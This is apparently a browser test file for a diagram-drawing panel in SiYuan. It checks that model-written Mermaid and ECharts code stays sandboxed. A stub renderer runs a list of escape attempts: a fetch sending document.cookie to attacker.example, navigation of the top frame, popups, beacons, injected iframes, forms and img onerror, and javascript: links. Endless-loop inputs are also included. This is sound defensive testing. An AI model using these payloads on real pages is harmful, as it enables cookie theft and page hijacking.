// Diagrams of an answer: drawn on request, in a frame in which even a drawing program that runs what the model wrote can do nothing.

import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type AppFactory, chromiumPath, createAppFactory, startApp, type TestApp } from '../support/app.ts';
import { drive, type PanelDriver } from '../support/panel.ts';

/** In the place of SiYuan's program: one that does for the source whatever a hostile source could wish for. */
const PROGRAM = `/*${' '.repeat(1000)}*/
const attempts = [
  () => { parent.parent.document.title = 'taken'; },
  () => { top.document.body.innerHTML = ''; },
  () => { top.location = 'http://attacker.example/top'; },
  () => { parent.location = 'http://attacker.example/parent'; },
  () => { open('http://attacker.example/window'); },
  () => { fetch('http://attacker.example/fetch?' + document.cookie).catch(() => undefined); },
  () => { fetch('/api/notebook/lsNotebooks', { method: 'POST' }).catch(() => undefined); },
  () => { new Image().src = 'http://attacker.example/image.png'; },
  () => { new WebSocket('ws://attacker.example/socket'); },
  () => { navigator.sendBeacon('http://attacker.example/beacon'); },
  () => { localStorage.setItem('taken', '1'); },
  () => { new Function('top.postMessage("taken", "*")')(); },
  () => { document.body.insertAdjacentHTML('beforeend', '<iframe src="http://attacker.example/frame"></iframe><img src=x onerror="top.postMessage(1)"><link rel="stylesheet" href="http://attacker.example/style.css"><meta http-equiv="refresh" content="0;url=http://attacker.example/refresh"><form action="http://attacker.example/form"><button>go</button></form>'); document.querySelector('form').submit(); },
  () => { const link = document.createElement('a'); link.href = 'http://attacker.example/link'; link.target = '_top'; document.body.append(link); link.click(); link.target = '_blank'; link.click(); link.target = ''; link.click(); },
  () => { const link = document.createElement('a'); link.href = 'javascript:top.postMessage("taken","*")'; document.body.append(link); link.click(); },
  () => { location = 'http://attacker.example/self'; },
];
window.mermaid = {
  initialize() {},
  async render(id, source) {
    if (source.includes('wrong')) throw new Error('a mistake');
    if (source.includes('endless')) for (;;);
    if (source.includes('hostile')) for (const attempt of attempts) try { attempt(); } catch {}
    return { svg: '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 200 ' + (source.includes('huge') ? 99999 : 120) + '" width="200" height="' + (source.includes('huge') ? 99999 : 120) + '"><a href="http://attacker.example/clicked"><rect width="200" height="120" fill="teal"/></a></svg>' };
  },
};`;

/** What SiYuan's desktop app and other browsers do by default, and a shell without windows does not: sandboxed frames run apart. */
const ISOLATED = ['--site-per-process'];

describe.skipIf(!chromiumPath)('a diagram of an answer', () => {
  let factory: AppFactory | undefined;
  let app: TestApp;
  let panel: PanelDriver;
  const listing = (language: string) => panel.region.getByRole('group', { name: `Code ${language}`, exact: true }).last();
  const shown = async (language: string, source: string): Promise<void> => {
    app.model.push({ text: `\`\`\`${language}\n${source}\n\`\`\`` });
    await panel.send('Draw it');
    await panel.settled();
    await listing(language).getByRole('button', { name: 'Draw' }).click();
  };
  const height = () =>
    listing('mermaid')
      .locator('iframe')
      .evaluate((frame) => frame.clientHeight);

  beforeAll(async () => {
    factory = await createAppFactory(ISOLATED);
    app = await factory.open();
    panel = drive(app.page);
    await app.page.route('**/stage/protyle/js/mermaid/mermaid.min.js', (route) =>
      route.fulfill({ contentType: 'text/javascript', body: PROGRAM }),
    );
    // One of them is not there.
    await app.page.route('**/stage/protyle/js/echarts/echarts.min.js', (route) => route.fulfill({ status: 404, body: '' }));
    await panel.open();
  });
  afterAll(async () => {
    await app?.close();
    await factory?.close();
  });

  it('is drawn when it is asked for, and gives way to its source again', async () => {
    await shown('mermaid', 'graph TD\n  A --> B');
    await expect.poll(async () => Math.abs((await height()) - 120)).toBeLessThan(20);
    await listing('mermaid').getByRole('button', { name: 'Show the source' }).click();
    await listing('mermaid').getByText('A --> B').waitFor();
    // One that would never end is cut to a height that is scrolled.
    await shown('mermaid', 'graph huge');
    await expect.poll(height).toBe(480);
  });

  it('reaches nothing, whatever the program that draws it does with what the model wrote', async () => {
    const said = app.page.evaluate(
      () => new Promise((resolve) => addEventListener('message', ({ data }) => resolve(data), { once: true })),
    );
    void said.then((data) => app.pageErrors.push(`a frame said ${String(data)}`)).catch(() => undefined);
    const address = app.page.url();
    await shown('mermaid', 'graph hostile');
    // Drawn or not: it is over.
    await listing('mermaid').locator('[aria-busy="true"]').waitFor({ state: 'detached' });
    await listing('mermaid')
      .locator('iframe')
      .click({ force: true, timeout: 2000 })
      .catch(() => undefined);
    await expect.poll(() => app.foreignRequests).toEqual([]);
    expect(app.page.url()).toBe(address);
    expect(await app.page.title()).not.toBe('taken');
    expect(app.page.context().pages()).toHaveLength(1);
    expect(await app.page.evaluate(() => localStorage.getItem('taken'))).toBeNull();
  });

  it('stays its source, with a line that says why, where it cannot be drawn', async () => {
    const failed = async (language: string, source: string, why: RegExp): Promise<void> => {
      await shown(language, source);
      await listing(language).getByText(why).waitFor();
      await expect.poll(() => listing(language).locator('pre').isVisible()).toBe(true);
      expect(await listing(language).locator('iframe').count()).toBe(0);
    };
    await failed('mermaid', 'graph wrong', /its source has an error/);
    await failed('mermaid', 'graph endless', /took too long/);
    await failed('mermaid', 'block-beta\n space:99999999', /only common kinds/);
    await failed('echarts', 'option = { series: [alert(1)] }', /its source has an error/);
    await failed('echarts', '{"series":[{"type":"bar"}]}', /could not be loaded/);
    await expect.poll(() => app.foreignRequests).toEqual([]);
  });
});

/** A browser whose sandboxed frames run in the page's own process, as on phones and in older ones: what blocks a frame blocks the page. */
const SHARED = ['--disable-features=IsolateSandboxedIframes,OriginKeyedProcessesByDefault', '--disable-site-isolation-trials'];

describe.skipIf(!chromiumPath)('a diagram with the programs that the host has', () => {
  let app: TestApp;

  beforeAll(async () => {
    app = await startApp();
  });
  afterAll(async () => {
    await app?.close();
  });

  it('is drawn, and so are formulas and colours of code', async () => {
    const panel = drive(app.page);
    await panel.open();
    const chart = JSON.stringify({ xAxis: { data: ['a', 'b'] }, yAxis: {}, series: [{ type: 'bar', data: [1, 2] }] });
    app.model.push({
      text: `$$\\frac{a}{b}$$\n\n\`\`\`mermaid\ngraph TD\n  Sow --> Reap\n\`\`\`\n\n\`\`\`echarts\n${chart}\n\`\`\`\n\n\`\`\`python\nreturn None\n\`\`\``,
    });
    await panel.send('Draw all');
    await panel.settled();
    await panel.answer.locator('.katex-html .mfrac').waitFor();
    await panel.answer.locator('[class*="hljs-keyword"]').first().waitFor();
    for (const [language, drawn] of [
      ['mermaid', 'svg'],
      ['echarts', 'canvas, svg'],
    ] as const) {
      const listing = panel.region.getByRole('group', { name: `Code ${language}`, exact: true });
      await listing.getByRole('button', { name: 'Draw' }).click();
      await listing.locator('iframe').contentFrame().locator('iframe').contentFrame().locator(drawn).first().waitFor();
    }
    expect(app.foreignRequests).toEqual([]);
  });
});

describe.skipIf(!chromiumPath)('a diagram where its frame shares the process of the page', () => {
  let factory: AppFactory;
  let app: TestApp;

  beforeAll(async () => {
    factory = await createAppFactory(SHARED);
    app = await factory.open();
  });
  afterAll(async () => {
    await app?.close();
    await factory?.close();
  });

  it('holds nothing up, though its source asks for work without end', async () => {
    const panel = drive(app.page);
    await panel.open();
    const endless = { type: 'gauge', splitNumber: 100_000, axisTick: { splitNumber: 100_000 }, data: [{ value: 1 }] };
    const gauge = JSON.stringify({ series: [endless] });
    app.model.push({ text: `\`\`\`echarts\n${gauge}\n\`\`\`\n\n\`\`\`mermaid\nblock-beta\n columns 1\n space:99999999\n a\n\`\`\`` });
    await panel.send('Draw both');
    await panel.settled();
    const listing = (language: string) => panel.region.getByRole('group', { name: `Code ${language}`, exact: true });
    await listing('echarts').getByRole('button', { name: 'Draw' }).click();
    const frame = listing('echarts').frameLocator('iframe').frameLocator('iframe');
    await frame.locator('svg').waitFor();
    const session = await app.page.context().newCDPSession(app.page);
    const { targetInfos } = await session.send('Target.getTargets');
    expect(targetInfos.map(({ type }) => type)).not.toContain('iframe');
    await listing('mermaid').getByRole('button', { name: 'Draw' }).click();
    await listing('mermaid')
      .getByText(/only common kinds/)
      .waitFor();
  });
});
